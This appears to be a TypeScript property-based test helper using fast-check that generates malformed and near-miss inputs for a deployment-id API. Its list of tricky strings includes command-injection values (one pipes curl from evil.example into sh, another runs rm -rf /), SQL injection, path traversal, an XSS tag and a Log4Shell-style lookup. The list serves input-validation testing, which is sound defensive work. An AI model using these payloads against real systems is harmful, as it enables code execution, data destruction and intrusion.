import fc from 'fast-check'

/**
 * Strings that break sloppy parsing: numbers written other ways ("01", "1e0", " 1", "+1", "0x1"),
 * huge and special numbers, empty and blank values, control characters, Unicode look-alikes,
 * shell and SQL metacharacters, path tricks, and long values.
 */
export const trickyStrings: readonly string[] = [
  '01',
  '1e0',
  ' 1',
  '1 ',
  '+1',
  '0x1',
  '1.0',
  '1.',
  '-1',
  '0',
  '00',
  '１',
  '1\n',
  '\t1',
  '1_000',
  '9007199254740993',
  '99999999999999999999999',
  '1e309',
  'NaN',
  'Infinity',
  '-0',
  '',
  ' ',
  '\u0000',
  '\u200b',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '$(reboot)',
  '`id`',
  '; rm -rf /',
  '&& curl evil.example | sh',
  '| true',
  "' OR 1=1 --",
  '"; DROP TABLE deployments; --',
  '../../etc/passwd',
  '%00',
  '%2e%2e%2f',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style lookup, sent as written
  '${jndi:ldap://x}',
  '\\',
  "'",
  '"',
  'ü',
  'Ⅻ',
  '🚀',
  'é'.normalize('NFD'),
  'a'.repeat(300),
  'x'.repeat(5_000),
]

/** Any JSON value a client could send, small, with the tricky strings well represented. */
export const anyJsonValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...trickyStrings) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 2, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.constantFrom(0, -1, 1, 2 ** 31, -(2 ** 31) - 1, 2 ** 53, 1.5, -0.5, 1e21) },
  { weight: 1, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.array(fc.oneof(fc.string({ maxLength: 10 }), fc.integer()), { maxLength: 3 }) },
  {
    weight: 1,
    arbitrary: fc.dictionary(
      fc.string({ maxLength: 8 }),
      fc.oneof(fc.string({ maxLength: 10 }), fc.integer(), fc.boolean()),
      { maxKeys: 3 },
    ),
  },
)

/** Ways of writing an id that are not the id: padded, re-cased, re-numbered, look-alike. */
const NEAR_MISSES: ReadonlyArray<(id: string) => string> = [
  (id) => ` ${id}`,
  (id) => `${id} `,
  (id) => `${id}\n`,
  (id) => id.toUpperCase(),
  (id) => id.replace(/(\d+)$/, '0$1'),
  (id) => id.replace(/(\d+)$/, '+$1'),
  (id) => id.replace(/(\d+)$/, (digits) => Number(digits).toExponential().replace('+', '')),
  (id) => id.replace(/(\d+)$/, '$1.0'),
  (id) => id.replace(/(\d+)$/, (digits) => `0x${Number(digits).toString(16)}`),
  (id) => id.replace(/\d/g, (digit) => String.fromCharCode(0xff10 + Number(digit))),
  (id) => `${id}\u200b`,
  (id) => id.replace(':', '::'),
  (id) => id.replace(':', '%3A'),
  (id) => `${id}/`,
  (id) => `${id}/../${id}`,
  (id) => id.slice(0, -1),
  (id) => `${id}0`,
]

/** Near misses of the given valid ids (never one of them), besides tricky and arbitrary strings. */
export function idLike(valid: readonly string[]): fc.Arbitrary<string> {
  const near = fc.tuple(fc.constantFrom(...valid), fc.constantFrom(...NEAR_MISSES)).map(([id, change]) => change(id))
  return fc
    .oneof(
      { weight: 3, arbitrary: near },
      { weight: 2, arbitrary: fc.constantFrom(...trickyStrings) },
      { weight: 1, arbitrary: fc.string({ maxLength: 30 }) },
    )
    .filter((id) => !valid.includes(id))
}

/** A deployment id exactly as the API gives them out: a positive whole number, no sign, no zero padding. */
export const isCanonicalNumber = (id: string): boolean => /^[1-9]\d{0,14}$/.test(id)
